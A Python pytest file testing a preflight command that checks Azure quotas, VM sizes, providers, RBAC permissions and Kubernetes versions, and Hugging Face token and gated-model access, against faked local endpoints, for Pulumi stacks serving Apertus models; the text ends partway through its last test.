"""`python -m stacks preflight`: every check passing and failing, with no Azure account and no network.

Azure answers come through the SDKs' own transport hook (``transport=``, an azure-core HttpTransport
that serves tests/fixtures/azure/*.json; each file names the azure-rest-api-specs example or model
whose shape it copies). Hugging Face answers come from a 127.0.0.1 stand-in at HF_ENDPOINT that
speaks the two endpoints huggingface_hub 2.4 calls (HfApi._inner_whoami: GET /api/whoami-v2;
HfApi.auth_check: GET /api/models/<id>/auth-check, 403 + X-Error-Code GatedRepo when not granted).
"""

from __future__ import annotations

import argparse
import ast
import base64
import copy
import io
import json
import os
import re
import shutil
import subprocess
import threading
import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any
from urllib.parse import unquote, urlparse

import pytest
from azure.core.credentials import AccessToken, AccessTokenInfo
from azure.core.exceptions import ClientAuthenticationError
from azure.core.pipeline.transport import HttpTransport
from azure.core.rest._http_response_impl import HttpResponseImpl
from azure.core.utils import CaseInsensitiveDict
from azure.identity import CredentialUnavailableError

from stacks import preflight

ROOT = Path(__file__).resolve().parents[1]
FIXTURES = Path(__file__).parent / "fixtures" / "azure"
SUBSCRIPTION = "00000000-0000-0000-0000-00000000abcd"
OBJECT_ID = "11111111-2222-3333-4444-555555555555"
HF_TOKEN = "hf_standin_token_with_access"
GOOD_USER = "heidi"


def fixture(name: str) -> Any:
    return json.loads((FIXTURES / name).read_text())["body"]


# ------------------------------------------------------------------ Azure through the transport hook

class FakeArm(HttpTransport):
    """Azure Resource Manager as the SDKs see it: routes by method and path, records every request."""

    def __init__(self) -> None:
        self.data = {name: fixture(f"{name}.json") for name in (
            "locations", "resource_skus", "compute_usages", "workload_profiles", "app_usages",
            "role_assignments", "role_owner", "role_contributor", "provider", "kubernetes_versions")}
        self.unregistered: set[str] = set()
        self.requests: list[str] = []
        sub = f"/subscriptions/{SUBSCRIPTION}"
        self.routes = [
            (rf"{sub}/locations", lambda m: self.data["locations"]),
            (rf"{sub}/providers/Microsoft\.Compute/skus", lambda m: self.data["resource_skus"]),
            (rf"{sub}/providers/Microsoft\.Compute/locations/[^/]+/usages", lambda m: self.data["compute_usages"]),
            (rf"{sub}/providers/Microsoft\.App/locations/[^/]+/availableManagedEnvironmentsWorkloadProfileTypes",
             lambda m: self.data["workload_profiles"]),
            (rf"{sub}/providers/Microsoft\.App/locations/[^/]+/usages", lambda m: self.data["app_usages"]),
            (rf"{sub}/providers/Microsoft\.ContainerService/locations/[^/]+/kubernetesVersions",
             lambda m: self.data["kubernetes_versions"]),
            (rf"{sub}/providers/Microsoft\.Authorization/roleAssignments", lambda m: self.data["role_assignments"]),
            (rf"{sub}/providers/Microsoft\.Authorization/roleDefinitions/(?P<id>[^/]+)", self._role),
            (rf"{sub}/providers/(?P<ns>Microsoft\.[A-Za-z]+)", self._provider),
        ]

    def _role(self, match: re.Match) -> Any:
        roles = {r["name"]: r for r in (self.data["role_owner"], self.data["role_contributor"])}
        return roles[match["id"]]

    def _provider(self, match: re.Match) -> Any:
        state = "NotRegistered" if match["ns"] in self.unregistered else "Registered"
        return {**self.data["provider"], "namespace": match["ns"], "registrationState": state,
                "id": f"/subscriptions/{SUBSCRIPTION}/providers/{match['ns']}"}

    def send(self, request: Any, **kwargs: Any) -> HttpResponseImpl:
        url = urlparse(request.url)
        self.requests.append(f"{request.method} {unquote(url.path)}?{unquote(url.query)}")
        assert request.headers["Authorization"].startswith("Bearer "), "the SDK must send the token"
        for pattern, answer in self.routes:
            match = re.fullmatch(pattern, url.path, flags=re.IGNORECASE)
            if match and request.method == "GET":
                return self._response(request, 200, answer(match))
        return self._response(request, 404, {"error": {"code": "NotFound", "message": url.path}})

    @staticmethod
    def _response(request: Any, status: int, body: Any) -> HttpResponseImpl:
        response = HttpResponseImpl(
            request=request, internal_response=io.BytesIO(), status_code=status, reason="OK" if status == 200 else "Error",
            content_type="application/json", headers=CaseInsensitiveDict({"Content-Type": "application/json"}),
            stream_download_generator=None)
        response._content = json.dumps(body).encode()
        response._is_stream_consumed = True
        return response

    def open(self) -> None:
        pass

    def close(self) -> None:
        pass

    def __enter__(self) -> "FakeArm":
        return self

    def __exit__(self, *args: Any) -> None:
        pass

    # helpers for the scenarios
    def usage(self, name: str) -> dict[str, Any]:
        return next(u for u in self.data["compute_usages"]["value"] if u["name"]["value"] == name)

    def sku(self, name: str) -> dict[str, Any]:
        return next(s for s in self.data["resource_skus"]["value"] if s["name"] == name)


def jwt(claims: dict[str, Any]) -> str:
    part = base64.urlsafe_b64encode(json.dumps(claims).encode()).decode().rstrip("=")
    return f"eyJhbGciOiJub25lIn0.{part}.c2lnbmF0dXJl"


class FakeCredential:
    """A TokenCredential whose token carries the caller's object id, as Entra tokens do."""

    def __init__(self, error: Exception | None = None) -> None:
        self.error = error

    def get_token(self, *scopes: str, **kwargs: Any) -> AccessToken:
        if self.error:
            raise self.error
        return AccessToken(jwt({"oid": OBJECT_ID}), int(time.time()) + 3600)

    def get_token_info(self, *scopes: str, options: Any = None) -> AccessTokenInfo:
        token = self.get_token(*scopes)
        return AccessTokenInfo(token.token, token.expires_on)


# ------------------------------------------------------------------ Hugging Face stand-in

class HubStandIn:
    """huggingface.co's whoami-v2 and auth-check endpoints on 127.0.0.1:<ephemeral>."""

    def __init__(self) -> None:
        self.granted: set[str] = {"swiss-ai/Apertus-8B-Instruct-2509", "swiss-ai/Apertus-70B-Instruct-2509"}
        # a fine-grained token without "Read access to contents of all public gated repos you can
        # access": whoami-v2 reports auth.accessToken.role 'fineGrained', and auth-check answers 403
        # with no X-Error-Code (huggingface_hub then raises a plain HfHubHTTPError)
        self.fine_grained_without_gated = False
        self.auth_check_status: int | None = None  # e.g. 429 or 503: the hub busy or down
        hub = self

        class Handler(BaseHTTPRequestHandler):
            def log_message(self, *args: Any) -> None:
                pass

            def do_GET(self) -> None:  # noqa: N802 - stdlib name
                if self.headers.get("Authorization") != f"Bearer {HF_TOKEN}":
                    return self.answer(401, {"error": "Invalid credentials in Authorization header"})
                if self.path == "/api/whoami-v2":
                    token = ({"displayName": "preflight", "role": "fineGrained"} if hub.fine_grained_without_gated
                             else {"displayName": "preflight", "role": "read"})
                    return self.answer(200, {"type": "user", "name": GOOD_USER,
                                             "auth": {"type": "access_token", "accessToken": token}})
                match = re.fullmatch(r"/api/models/(.+)/auth-check", self.path)
                if match and hub.auth_check_status:
                    return self.answer(hub.auth_check_status, {"error": "busy"})
                if match and hub.fine_grained_without_gated:
                    return self.answer(403, {"error": "Please enable access to public gated repositories in "
                                                      "your fine-grained token settings to view this repository."})
                if match and match[1] in hub.granted:
                    return self.answer(200, {})
                if match:
                    return self.answer(403, {"error": "Access to model is restricted"}, {"X-Error-Code": "GatedRepo"})
                return self.answer(404, {"error": "not found"}, {"X-Error-Code": "RepoNotFound"})

            def answer(self, status: int, body: Any, headers: dict[str, str] | None = None) -> None:
                data = json.dumps(body).encode()
                self.send_response(status)
                for key, value in {"Content-Type": "application/json", **(headers or {})}.items():
                    self.send_header(key, value)
                self.send_header("Content-Length", str(len(data)))
                self.end_headers()
                self.wfile.write(data)

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
        self.thread = threading.Thread(target=self.server.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True)

    def __enter__(self) -> "HubStandIn":
        self.thread.start()
        return self

    def __exit__(self, *args: Any) -> None:
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture(scope="module")
def hub():
    with HubStandIn() as hub:
        yield hub


_plans: dict[tuple[str, Path], dict[str, Any]] = {}


@pytest.fixture(autouse=True)
def planned_once(monkeypatch):
    """preflight plans through stacks.common.plan_stack (tested in test_plan_command); planning a
    stack once per test session keeps these tests fast."""
    from stacks import common as cli

    real = cli.plan_stack

    def plan_stack(stack: str, root: Path = ROOT) -> dict[str, Any]:
        key = (stack, root)
        if key not in _plans or root != ROOT:
            _plans[key] = real(stack, root)
        return copy.deepcopy(_plans[key])

    monkeypatch.setattr(cli, "plan_stack", plan_stack)


@pytest.fixture
def arm():
    return FakeArm()


class Tools:
    """The pulumi CLI and kubelogin as PATH lookups and subprocess results."""

    def __init__(self, installed=("pulumi", "kubelogin"), hf_token: str | None = HF_TOKEN,
                 selected: str | None = None, hang: tuple[str, ...] = (), cli_version: str = "v3.276.0"):
        self.installed, self.hf_token, self.calls = set(installed), hf_token, []
        self.cli_version = cli_version
        self.selected, self.hang = selected, hang  # `pulumi stack select`ed stack; subcommands that hang

    def which(self, name: str) -> str | None:
        return f"/usr/local/bin/{name}" if name in self.installed else None

    def run(self, argv: list[str], **kwargs: Any) -> subprocess.CompletedProcess:
        self.calls.append(argv)
        if argv[1] in self.hang:  # e.g. pulumi waiting for a passphrase on a terminal nobody watches
            raise subprocess.TimeoutExpired(argv, kwargs.get("timeout", 60))
        if argv[:3] == ["pulumi", "stack", "--show-name"]:
            return subprocess.CompletedProcess(argv, 0 if self.selected else 255, f"{self.selected or ''}\n",
                                               "" if self.selected else "error: no stack selected\n")
        if argv[:2] == ["pulumi", "version"]:
            return subprocess.CompletedProcess(argv, 0, f"{self.cli_version}\n", "")
        if argv[:3] == ["pulumi", "config", "get"] and self.hf_token:
            return subprocess.CompletedProcess(argv, 0, self.hf_token + "\n", "")
        return subprocess.CompletedProcess(argv, 255, "", "error: configuration key 'hfToken' not found\n")


def environment(arm: FakeArm, hub: HubStandIn, tools: Tools | None = None, credential: Any = None,
                **env: str) -> preflight.Environment:
    tools = tools or Tools()
    return preflight.Environment(
        credential=credential or FakeCredential(), client_kwargs={"transport": arm},
        env={"AZURE_SUBSCRIPTION_ID": SUBSCRIPTION, "HF_ENDPOINT": hub.url, "HOME": "/nonexistent", **env},
        which=tools.which, run=tools.run)


def run(stack: str, env: preflight.Environment, capsys, root: Path = ROOT) -> tuple[int, dict[str, Any], str]:
    code = preflight.command(argparse.Namespace(stack=stack, json=True), root, env)
    out, err = capsys.readouterr()
    return code, (json.loads(out) if out else {}), err


def checks(data: dict[str, Any]) -> dict[str, dict[str, Any]]:
    return {c["name"]: c for c in data["checks"]}


def failed(data: dict[str, Any]) -> list[str]:
    return [f"{c['name']}: {c['found']}; {c['fix']}" for c in data["checks"] if c["status"] == "FAIL"]


def stack_root(tmp_path: Path, name: str, config: dict[str, Any]) -> Path:
    shutil.copy(ROOT / "Pulumi.yaml", tmp_path / "Pulumi.yaml")
    (tmp_path / f"Pulumi.{name}.yaml").write_text(json.dumps({"config": config}))
    return tmp_path


# ------------------------------------------------------------------ everything passing, per host

def test_containerapp_stack_passes_and_asks_azure_what_it_needs(arm, hub, capsys):
    code, data, err = run("dev", environment(arm, hub), capsys)
    assert code == 0, failed(data) or err
    found = checks(data)
    assert found["region"]["status"] == "ok"
    assert found["workload profile Consumption-GPU-NC24-A100"]["status"] == "ok"
    quota = found["quota Container Apps GPUs (Consumption-GPU-NC24-A100)"]
    assert quota["status"] == "ok" and "0 of 4 GPUs" in quota["found"] and "needs up to 1" in quota["found"]
    assert "SubscriptionConsumptionNCA100Gpus" in quota["found"]  # the region-scope quota, not an environment's
    for namespace in ("Microsoft.App", "Microsoft.KeyVault", "Microsoft.ManagedIdentity", "Microsoft.Network",
                      "Microsoft.Storage", "Microsoft.OperationalInsights"):
        assert found[f"provider {namespace}"]["status"] == "ok"
    assert found["permission Microsoft.Authorization/roleAssignments/write"]["status"] == "ok"
    assert found["model access swiss-ai/Apertus-8B-Instruct-2509"]["status"] == "ok"
    assert found["hugging face token"]["found"].startswith("stack 'dev' config hfToken is valid (user heidi)")
    assert found["pulumi CLI"]["found"] == "v3.276.0"
    assert "kubelogin" not in found  # only aks needs it
    # the caller's own assignments, found by the object id in the token
    assert any(f"assignedTo('{OBJECT_ID}')" in r for r in arm.requests)
    assert any("availableManagedEnvironmentsWorkloadProfileTypes" in r for r in arm.requests)
    assert not any("kubernetesVersions" in r for r in arm.requests)  # only aks runs Kubernetes


def test_aks_stack_checks_both_pools_family_and_regional_quota(arm, hub, capsys):
    code, data, _ = run("aks", environment(arm, hub), capsys)
    assert code == 0, failed(data)
    found = checks(data)
    assert found["size Standard_NC24ads_A100_v4 (GPU)"]["status"] == "ok"
    assert found["size Standard_D4ds_v5 (AKS system pool)"]["status"] == "ok"
    # 1..4 replicas -> up to 5 GPU nodes x 24 vCPUs (plan's quota figure); 3 system nodes x 4 vCPUs
    assert "needs up to 120" in found["quota StandardNCADSA100v4Family"]["found"]
    assert "needs up to 12" in found["quota standardDDSv5Family"]["found"]
    assert "8 of 350 vCPUs used in swedencentral, the stack needs up to 132" in found["quota cores"]["found"]
    assert found["provider Microsoft.ContainerService"]["status"] == "ok"
    assert found["provider Microsoft.Compute"]["status"] == "ok"  # node pools are scale sets
    assert found["kubelogin"]["status"] == "ok"
    assert any("filter=location eq 'swedencentral'" in r for r in arm.requests)
    # Pulumi.aks.yaml leaves kubernetesVersion at the component's default; the region offers that minor
    assert found["kubernetesVersion 1.35 (the default)"] == {
        "status": "ok", "name": "kubernetesVersion 1.35 (the default)",
        "found": "offered in swedencentral; AKS picks its newest GA patch, 1.35.1 today", "fix": ""}
    assert any(r.startswith(f"GET /subscriptions/{SUBSCRIPTION}/providers/Microsoft.ContainerService/locations/"
                            "swedencentral/kubernetesVersions?api-version=") for r in arm.requests)


# ------------------------------------------------------------------ each check failing

def test_quota_exhausted_names_the_exact_request(arm, hub, capsys):
    arm.usage("standardNCADSA100v4Family").update(currentValue=96, limit=120)
    code, data, _ = run("vm-70b", environment(arm, hub), capsys)
    assert code == 1
    quota = checks(data)["quota StandardNCADSA100v4Family"]
    assert quota["status"] == "FAIL"
    assert quota["found"] == "96 of 120 vCPUs used in swedencentral, the stack needs up to 96"
    assert "request a limit of 192 vCPUs for 'StandardNCADSA100v4Family' in swedencentral (+72)" in quota["fix"]


def test_regional_total_is_checked_besides_the_family(arm, hub, capsys):
    arm.usage("cores").update(currentValue=300, limit=350)
    code, data, _ = run("vm-70b", environment(arm, hub), capsys)
    assert code == 1
    assert checks(data)["quota StandardNCADSA100v4Family"]["status"] == "ok"
    assert "request a limit of 396 vCPUs for 'cores' in swedencentral" in checks(data)["quota cores"]["fix"]


def test_spot_draws_on_the_low_priority_quota(arm, hub, capsys, tmp_path):
    root = stack_root(tmp_path, "spot", {"azure-native:location": "swedencentral", "apertus-azure:host": "vm",
                                         "apertus-azure:spot": True, "apertus-azure:hfToken": {"secure": "x"}})
    arm.usage("lowPriorityCores").update(currentValue=0, limit=10)
    arm.usage("standardNCADSA100v4Family").update(currentValue=0, limit=0)  # no on-demand quota: irrelevant
    code, data, _ = run("spot", environment(arm, hub), capsys, root)
    assert code == 1
    found = checks(data)
    assert found["quota lowPriorityCores"]["status"] == "FAIL"
    assert "for 'lowPriorityCores' in swedencentral" in found["quota lowPriorityCores"]["fix"]
    assert "quota StandardNCADSA100v4Family" not in found


def test_size_not_available_for_subscription(arm, hub, capsys):
    arm.sku("Standard_NC96ads_A100_v4")["restrictions"] = [{
        "type": "Location", "values": ["swedencentral"], "reasonCode": "NotAvailableForSubscription",
        "restrictionInfo": {"locations": ["swedencentral"]}}]
    code, data, _ = run("vm-70b", environment(arm, hub), capsys)
    assert code == 1
    size = checks(data)["size Standard_NC96ads_A100_v4 (GPU)"]
    assert size["status"] == "FAIL" and "NotAvailableForSubscription" in size["found"]


def test_zone_restriction_fails_a_zonal_pool_and_only_warns_a_regional_vm(arm, hub, capsys):
    zone = {"type": "Zone", "values": ["swedencentral"], "reasonCode": "NotAvailableForSubscription",
            "restrictionInfo": {"locations": ["swedencentral"], "zones": ["3"]}}
    arm.sku("Standard_D4ds_v5")["restrictions"] = [zone]  # the AKS system pool spans zones 1-3
    arm.sku("Standard_NC96ads_A100_v4")["restrictions"] = [zone]  # the VM is placed without a zone
    code, data, _ = run("aks", environment(arm, hub), capsys)
    assert code == 1
    assert checks(data)["size Standard_D4ds_v5 (AKS system pool)"]["status"] == "FAIL"
    assert "zone(s) 3" in checks(data)["size Standard_D4ds_v5 (AKS system pool)"]["found"]
    code, data, _ = run("vm-70b", environment(arm, hub), capsys)
    assert code == 0, failed(data)
    assert checks(data)["size Standard_NC96ads_A100_v4 (GPU)"]["status"] == "warn"


def test_catalog_quota_family_is_compared_with_azures(arm, hub, capsys):
    arm.sku("Standard_NC96ads_A100_v4")["family"] = "standardNCADSA100v5Family"
    code, data, _ = run("vm-70b", environment(arm, hub), capsys)
    assert code == 0, failed(data)
    mismatch = checks(data)["quota family of Standard_NC96ads_A100_v4"]
    assert mismatch["status"] == "warn" and "'standardNCADSA100v5Family'" in mismatch["found"]


def test_size_not_offered_in_the_region(arm, hub, capsys):
    arm.data["resource_skus"]["value"] = [s for s in arm.data["resource_skus"]["value"]
                                          if s["name"] != "Standard_NC96ads_A100_v4"]
    code, data, _ = run("vm-70b", environment(arm, hub), capsys)
    assert code == 1
    assert checks(data)["size Standard_NC96ads_A100_v4 (GPU)"]["found"] == "not offered in swedencentral"


def test_workload_profile_missing_in_the_region(arm, hub, capsys):
    arm.data["workload_profiles"]["value"] = [p for p in arm.data["workload_profiles"]["value"]
                                              if p["name"] != "Consumption-GPU-NC24-A100"]
    code, data, _ = run("dev", environment(arm, hub), capsys)
    assert code == 1
    profile = checks(data)["workload profile Consumption-GPU-NC24-A100"]
    assert profile["status"] == "FAIL" and "Consumption-GPU-NC8as-T4" in profile["found"]


def test_region_display_name_is_normalised_and_a_misspelt_one_stops_before_any_check(arm, hub, capsys, tmp_path):
    base = {"apertus-azure:host": "containerapp", "apertus-azure:hfToken": {"secure": "x"}}
    root = stack_root(tmp_path, "display", {**base, "azure-native:location": "Sweden Central"})
    code, data, _ = run("display", environment(arm, hub), capsys, root)
    region = checks(data)["region"]
    # the program normalises the display name once (stacks/config.py): Azure is asked for swedencentral
    assert code == 0 and region["status"] == "ok" and "swedencentral" in region["found"], region
    (root / "Pulumi.typo.yaml").write_text(json.dumps({"config": {**base, "azure-native:location": "swedencentrall"}}))
    arm.requests.clear()
    code, data, err = run("typo", environment(arm, hub), capsys, root)
    assert code == 2 and list(data) == ["error"] and err == ""  # --json: the usage error as JSON
    assert "did you mean 'swedencentral'" in data["error"] and "\n" not in data["error"], data
    assert arm.requests == []


def test_permission_missing_for_a_contributor(arm, hub, capsys):
    contributor = arm.data["role_contributor"]["id"]
    arm.data["role_assignments"]["value"][0]["properties"]["roleDefinitionId"] = contributor
    code, data, _ = run("dev", environment(arm, hub), capsys)
    assert code == 1
    found = checks(data)
    assert found["permission Microsoft.Authorization/roleAssignments/write"]["status"] == "FAIL"
    assert "Role Based Access Control Administrator" in found["permission Microsoft.Authorization/roleAssignments/write"]["fix"]
    assert found["permission Microsoft.Resources/subscriptions/resourceGroups/write"]["status"] == "ok"


def test_owner_inherited_from_a_management_group_counts_but_not_one_on_a_resource_group(arm, hub, capsys):
    assignment = arm.data["role_assignments"]["value"][0]["properties"]
    assignment["scope"] = "/providers/Microsoft.Management/managementGroups/platform"
    code, data, _ = run("dev", environment(arm, hub), capsys)
    assert code == 0, failed(data)
    assignment["scope"] = f"/subscriptions/{SUBSCRIPTION}/resourceGroups/sandbox"
    code, data, _ = run("dev", environment(arm, hub), capsys)
    assert code == 1
    assert checks(data)["permission Microsoft.Authorization/roleAssignments/write"]["status"] == "FAIL"


def test_provider_unregistered_gives_the_register_command(arm, hub, capsys):
    arm.unregistered.add("Microsoft.App")
    code, data, _ = run("dev", environment(arm, hub), capsys)
    assert code == 1
    provider = checks(data)["provider Microsoft.App"]
    assert provider["found"] == "NotRegistered in this subscription"
    assert provider["fix"] == "az provider register --namespace Microsoft.App --wait"


def test_token_invalid(arm, hub, capsys):
    code, data, _ = run("dev", environment(arm, hub, Tools(hf_token="hf_revoked")), capsys)
    assert code == 1
    token = checks(data)["hugging face token"]
    assert token["status"] == "FAIL" and "(401)" in token["found"]
    assert "hf_revoked" not in json.dumps(data)  # never echo the secret


def test_gated_access_not_granted_names_the_page(arm, hub, capsys):
    hub.granted.discard("swiss-ai/Apertus-8B-Instruct-2509")
    try:
        code, data, _ = run("dev", environment(arm, hub), capsys)
    finally:
        hub.granted.add("swiss-ai/Apertus-8B-Instruct-2509")
    assert code == 1
    access = checks(data)["model access swiss-ai/Apertus-8B-Instruct-2509"]
    assert access["status"] == "FAIL" and GOOD_USER in access["found"]
    assert access["fix"] == f"accept the terms on {hub.url}/swiss-ai/Apertus-8B-Instruct-2509"


def test_token_from_hf_token_when_there_is_no_pulumi_cli(arm, hub, capsys):
    tools = Tools(installed=(), hf_token=None)
    code, data, _ = run("dev", environment(arm, hub, tools, HF_TOKEN=HF_TOKEN), capsys)
    assert code == 1  # the pulumi CLI is missing
    found = checks(data)
    assert found["hugging face token"]["found"].startswith("HF_TOKEN is valid")
    assert found["pulumi CLI"]["status"] == "FAIL" and "download-install" in found["pulumi CLI"]["fix"]


def test_unreachable_azure_and_hugging_face_are_one_line_each(arm, hub, capsys):
    from azure.core.exceptions import ServiceRequestError

    def no_route(request: Any, **kwargs: Any) -> Any:
        raise ServiceRequestError("Failed to establish a new connection: [Errno 101] Network is unreachable")

    arm.send = no_route
    env = environment(arm, hub, HF_ENDPOINT="http://127.0.0.1:9")  # discard port: nothing listens
    env.client_kwargs["retry_total"] = 0  # azure-core retries a failed connection with backoff
    code, data, err = run("dev", env, capsys)
    assert code == 1 and "Traceback" not in err
    found = checks(data)
    assert found["azure"]["found"].startswith("could not reach Azure Resource Manager (ServiceRequestError")
    assert found["hugging face token"]["found"].startswith("could not reach http://127.0.0.1:9 (")


def test_kubelogin_missing_on_aks_fails(arm, hub, capsys):
    """The Kubernetes provider signs in through kubelogin's exec plugin: pulumi up needs it."""
    code, data, _ = run("aks", environment(arm, hub, Tools(installed=("pulumi",))), capsys)
    assert code == 1 and [line.split(":")[0] for line in failed(data)] == ["kubelogin"], failed(data)
    assert checks(data)["kubelogin"]["status"] == "FAIL"
    assert checks(data)["kubelogin"]["fix"] == "install it where pulumi up runs: az aks install-cli"


@pytest.mark.parametrize("printed, status", [("v3.210.0", "FAIL"), ("v3.230.9", "FAIL"), ("v3.231.0", "ok"),
                                             ("v3.276.0", "ok"), ("v4.0.0", "ok"),
                                             ("v3.277.1-dev.0", "ok"), ("unknown", "ok")])
def test_a_pulumi_cli_older_than_the_supported_floor_fails(printed, status):
    # the floor is the SDK's in requirements.txt (the CLI and the SDK are released together)
    floor = re.search(r"^pulumi>=([\d.]+)", (ROOT / "requirements.txt").read_text(), re.M).group(1)
    assert preflight.OLDEST_CLI[:len(floor.split("."))] == tuple(int(p) for p in floor.split("."))
    check = preflight.check_cli_version(printed)
    assert check.status == status and check.found.startswith(printed)
    if status == "FAIL":
        assert "older than v3.231.0" in check.found and "upgrade" in check.fix


def test_no_credentials_is_one_line_and_exit_2_and_the_other_checks_still_run(arm, hub, capsys):
    credential = FakeCredential(CredentialUnavailableError("DefaultAzureCredential failed to retrieve a token"))
    code, data, err = run("dev", environment(arm, hub, credential=credential), capsys)
    assert code == 2
    assert err.count("\n") == 1 and "az login" in err and "AZURE_CLIENT_ID" in err
    assert "Traceback" not in err and "az login" in data["error"]
    assert arm.requests == []  # nothing was asked before the login problem was reported
    found = checks(data)  # Hugging Face and the tools need no Azure: still checked and reported
    assert found["azure"]["status"] == "FAIL"
    assert found["model access swiss-ai/Apertus-8B-Instruct-2509"]["status"] == "ok"
    assert found["pulumi CLI"]["status"] == "ok"
    expired = FakeCredential(ClientAuthenticationError("AADSTS700082: the refresh token has expired"))
    assert run("dev", environment(arm, hub, credential=expired), capsys)[0] == 2


def test_no_credentials_in_text_form_is_said_once(arm, hub, capsys):
    """The text form prints the problem as its azure FAIL line; it is not repeated on stderr."""
    credential = FakeCredential(CredentialUnavailableError("DefaultAzureCredential failed to retrieve a token"))
    env = environment(arm, hub, credential=credential)
    assert preflight.command(argparse.Namespace(stack="dev", json=False), ROOT, env) == 2
    out, err = capsys.readouterr()
    assert err == "" and (out + err).count(preflight.NO_LOGIN) == 1
    assert f"FAIL  azure: {preflight.NO_LOGIN}; run 'az login'" in out
    assert out.splitlines()[-1].endswith("Azure was not asked: fix the azure line, then run preflight again")


def test_a_plain_provider_credential_in_the_stack_file_is_a_warning(arm, hub, capsys, tmp_path):
    value = "plain-client-secret-0123456789"
    root = stack_root(tmp_path, "t", {"azure-native:location": "swedencentral", "apertus-azure:host": "vm",
                                      "azure-native:clientSecret": value})
    code, data, err = run("t", environment(arm, hub), capsys, root)
    assert code == 0, failed(data) or err
    assert checks(data)["stack file"] == {
        "status": "warn", "name": "stack file",
        "found": "azure-native:clientSecret is stored in plain text in Pulumi.t.yaml (anyone with the file or "
                 "its git history has it)",
        "fix": "pulumi config set --secret azure-native:clientSecret <value> --stack t, then rotate it"}
    assert value not in json.dumps(data) + err
    assert "stack file" not in checks(run("dev", environment(arm, hub), capsys)[1])


def test_subscription_from_the_azure_cli_profile(arm, hub, capsys, tmp_path):
    profile = {"subscriptions": [{"id": "other", "isDefault": False}, {"id": SUBSCRIPTION, "isDefault": True}]}
    (tmp_path / "azureProfile.json").write_text("\ufeff" + json.dumps(profile), encoding="utf-8")  # az writes a BOM
    env = environment(arm, hub)
    del env.env["AZURE_SUBSCRIPTION_ID"]
    env.env["AZURE_CONFIG_DIR"] = str(tmp_path)
    code, data, _ = run("dev", env, capsys)
    assert code == 0 and data["subscription"] == SUBSCRIPTION
    env.env["AZURE_CONFIG_DIR"] = str(tmp_path / "empty")
    code, _, err = run("dev", env, capsys)
    assert code == 2 and "az account set --subscription" in err


def test_text_output_is_one_line_per_check(arm, hub, capsys):
    arm.unregistered.add("Microsoft.KeyVault")
    code = preflight.command(argparse.Namespace(stack="dev", json=False), ROOT, environment(arm, hub))
    out = capsys.readouterr().out
    assert code == 1
    lines = out.splitlines()
    assert lines[0].startswith("apertus-azure preflight: stack 'dev', subscription " + SUBSCRIPTION)
    assert ("FAIL  provider Microsoft.KeyVault: NotRegistered in this subscription; "
            "az provider register --namespace Microsoft.KeyVault --wait") in lines
    assert re.match(r"1 failed, \d+ warning\(s\): fix the FAIL lines before pulumi up", lines[-1])
    assert all(re.match(r"(ok  |warn|FAIL)  \S", line) for line in lines[2:-2])


def test_bad_stack_config_exits_2_before_asking_azure(arm, hub, capsys):
    code, data, _ = run("no-such-stack", environment(arm, hub), capsys)
    assert code == 2 and data["error"].startswith("no stack file") and arm.requests == []
    code = preflight.command(argparse.Namespace(stack="no-such-stack", json=False), ROOT, environment(arm, hub))
    out, err = capsys.readouterr()
    assert code == 2 and out == "" and err.startswith("error: no stack file") and err.count("\n") == 1


def test_rbac_wildcards_and_not_actions():
    class Permission:
        def __init__(self, actions, not_actions=()):
            self.actions, self.not_actions = list(actions), list(not_actions)

    write = "Microsoft.Authorization/roleAssignments/write"
    assert preflight.action_allowed(write, [Permission(["*"])])
    assert not preflight.action_allowed(write, [Permission(["*"], ["Microsoft.Authorization/*/Write"])])
    # RBAC Administrator grants it explicitly; a second role adds what the first lacks
    assert preflight.action_allowed(write, [Permission(["*"], ["Microsoft.Authorization/*/Write"]),
                                            Permission(["Microsoft.Authorization/roleAssignments/*"])])
    assert not preflight.action_allowed(write, [Permission(["*/read"])])


def test_sdks_are_imported_only_inside_the_commands():
    """`python -m stacks plan` runs stacks/__main__.py, which imports every command's module: their
    module level must not need the Azure, Hugging Face or OpenAI SDKs."""
    sdks = ("azure", "huggingface_hub", "openai")
    for module in ("preflight", "smoke", "__main__", "plan", "common"):
        tree = ast.parse((ROOT / "stacks" / f"{module}.py").read_text())
        top = [node for node in tree.body if isinstance(node, (ast.Import, ast.ImportFrom))]
        names = [a.name for n in top if isinstance(n, ast.Import) for a in n.names]
        names += [n.module for n in top if isinstance(n, ast.ImportFrom) and n.module]
        assert not [n for n in names if n.split(".")[0] in sdks], (module, names)


def test_fixtures_keep_the_shapes_they_cite():
    for path in FIXTURES.glob("*.json"):
        document = json.loads(path.read_text())
        assert document["source"].startswith("Azure/azure-rest-api-specs specification/"), path.name


# ------------------------------------------------------------------ kubernetesVersion against the region's list

REGION_OFFERS = ("swedencentral offers GA minors (newest patch) 1.33 (1.33.6), 1.34 (1.34.2), 1.35 (1.35.1); "
                 "preview 1.36; long-term support only 1.31")


def kubernetes_versions(arm: FakeArm) -> list[Any]:
    """The fixture as the real SDK deserialises it, through the same transport hook."""
    from azure.mgmt.containerservice import ContainerServiceClient

    clusters = ContainerServiceClient(FakeCredential(), SUBSCRIPTION, transport=arm).managed_clusters
    return clusters.list_kubernetes_versions("swedencentral").values_property


@pytest.mark.parametrize("version, status, found", [
    ("1.34", "ok", "offered in swedencentral; AKS picks its newest GA patch, 1.34.2 today"),
    ("1.34.1", "ok", "offered in swedencentral"),  # a patch the region offers
    ("1.34.9", "FAIL", "not offered in swedencentral"),
    ("1.29", "FAIL", "not offered in swedencentral"),
    # the cluster is Free tier on community support: AKS refuses an LTS-only version for it
    ("1.31", "FAIL", "offered in swedencentral only with long-term support (AKSLongTermSupport), which needs"),
    ("1.36", "warn", "a preview version in swedencentral (no support or SLA until it is GA)"),
])
def test_kubernetes_version_against_the_regions_list(arm, version, status, found):
    check = preflight.check_kubernetes_version(kubernetes_versions(arm), version, "swedencentral")
    assert (check.name, check.status) == (f"kubernetesVersion {version}", status)
    assert check.found.startswith(found), check.found
    if status != "ok":  # AKS's default minor in the region, then everything it offers, on one line
        assert check.fix.endswith("pulumi config set kubernetesVersion 1.34 (AKS's default in swedencentral); "
                                  + REGION_OFFERS), check.fix


def test_a_kubernetes_version_the_region_lacks_fails_naming_what_it_offers(arm, hub, capsys):
    arm.data["kubernetes_versions"]["values"] = [v for v in arm.data["kubernetes_versions"]["values"]
                                                 if v["version"] != "1.35"]
